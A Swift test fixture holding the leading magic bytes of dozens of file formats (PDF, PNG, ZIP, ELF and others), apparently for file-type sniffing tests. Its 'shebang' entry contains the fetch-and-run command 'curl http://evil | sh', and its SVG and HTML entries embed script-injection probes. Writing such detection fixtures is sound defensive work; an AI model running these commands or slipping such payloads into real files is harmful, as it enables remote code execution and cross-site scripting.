/// Leading bytes of real file formats, for sniffing tests.
enum MagicBytes {
    static func ascii(_ text: String) -> [UInt8] { Array(text.utf8) }

    static let pdf = ascii("%PDF-1.7\n%\u{E2}\u{E3}\n1 0 obj\n")
    static let png: [UInt8] = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D] + ascii("IHDR")
    static let jpeg: [UInt8] = [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10] + ascii("JFIF") + [0]
    static let gif = ascii("GIF89a") + [1, 0, 1, 0]
    static let webp = ascii("RIFF") + [0x24, 0, 0, 0] + ascii("WEBPVP8 ")
    static let wav = ascii("RIFF") + [0x24, 0, 0, 0] + ascii("WAVEfmt ")
    static let avi = ascii("RIFF") + [0x24, 0, 0, 0] + ascii("AVI LIST")
    static let bmp = ascii("BM") + [0x3A, 0, 0, 0, 0, 0, 0, 0, 0x36, 0, 0, 0]
    static let tiff: [UInt8] = [0x49, 0x49, 0x2A, 0x00, 8, 0, 0, 0]
    static func ftyp(_ brand: String) -> [UInt8] { [0, 0, 0, 0x20] + ascii("ftyp" + brand) + [0, 0, 2, 0] }
    static let mp4 = ftyp("isom")
    static let m4a = ftyp("M4A ")
    static let mov = ftyp("qt  ")
    static let threeGP = ftyp("3gp4")
    static let heic = ftyp("heic")
    static let avif = ftyp("avif")
    static let webm: [UInt8] = [0x1A, 0x45, 0xDF, 0xA3, 0x9F, 0x42, 0x86, 0x81, 0x01, 0x42, 0x82, 0x84] + ascii("webm")
    static let mkv: [UInt8] = [0x1A, 0x45, 0xDF, 0xA3, 0x9F, 0x42, 0x82, 0x88] + ascii("matroska")
    static let oggOpus = ascii("OggS") + [0, 2] + Array(repeating: 0, count: 22) + ascii("OpusHead")
    static let oggTheora = ascii("OggS") + [0, 2] + Array(repeating: 0, count: 22) + [0x80] + ascii("theora")
    static let mp3ID3 = ascii("ID3") + [4, 0, 0, 0, 0, 0, 0]
    static let mp3Frame: [UInt8] = [0xFF, 0xFB, 0x90, 0x64, 0, 0]
    static let aacADTS: [UInt8] = [0xFF, 0xF1, 0x50, 0x80, 0x02, 0x1F, 0xFC]
    static let flac = ascii("fLaC") + [0, 0, 0, 0x22]
    static let amr = ascii("#!AMR\n") + [0x3C, 0x48]
    static let zip = ascii("PK") + [3, 4, 0x14, 0, 0, 0, 8, 0] + Array(repeating: 0, count: 18) + ascii("a.txt")
    static let docx =
        ascii("PK") + [3, 4, 0x14, 0, 6, 0, 8, 0] + Array(repeating: 0, count: 18)
        + ascii("[Content_Types].xml") + [0x9C, 0x01] + ascii("PK") + [3, 4] + ascii("word/document.xml")
    static let xlsx = ascii("PK") + [3, 4] + Array(repeating: 0, count: 26) + ascii("xl/workbook.xml")
    static let odt =
        ascii("PK") + [3, 4] + Array(repeating: 0, count: 26) + ascii("mimetype")
        + ascii("application/vnd.oasis.opendocument.text") + ascii("PK") + [3, 4]
    static let epub =
        ascii("PK") + [3, 4] + Array(repeating: 0, count: 26) + ascii("mimetype")
        + ascii("application/epub+zip") + ascii("PK") + [3, 4]
    static let jar = ascii("PK") + [3, 4] + Array(repeating: 0, count: 26) + ascii("META-INF/MANIFEST.MF")
    static let ole2: [UInt8] = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0]
    static let rar: [UInt8] = ascii("Rar!") + [0x1A, 0x07, 0x01, 0x00]
    static let sevenZip: [UInt8] = [0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0, 4]
    static let gzip: [UInt8] = [0x1F, 0x8B, 0x08, 0, 0, 0, 0, 0]
    static let xz: [UInt8] = [0xFD, 0x37, 0x7A, 0x58, 0x5A, 0x00, 0, 4]
    static let tar = ascii("notes.txt") + Array(repeating: 0, count: 248) + ascii("ustar\u{0}00")
    static let rtf = ascii("{\\rtf1\\ansi\\deff0")
    static let elf: [UInt8] = [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0]
    static let pe = ascii("MZ") + [0x90, 0, 3, 0, 0, 0, 4, 0]
    static let machO: [UInt8] = [0xCF, 0xFA, 0xED, 0xFE, 0x07, 0, 0, 0x01]
    static let machOFat: [UInt8] = [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 2]
    static let shebang = ascii("#!/bin/sh\ncurl http://evil | sh\n")
    static let wasm: [UInt8] = [0x00, 0x61, 0x73, 0x6D, 1, 0, 0, 0]
    static let svg = ascii("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>")
    static let svgWithXMLDeclaration = [0xEF, 0xBB, 0xBF] + ascii("  <?xml version=\"1.0\"?>\n<!-- x -->\n<SVG>")
    static let html = ascii("\n  <!DOCTYPE html><html><body><script>alert(1)</script>")
    static let xml = ascii("<?xml version=\"1.0\"?><invoice/>")
    static let plainText = ascii("Hello, this is a plain note.\nLine two.\n")
}
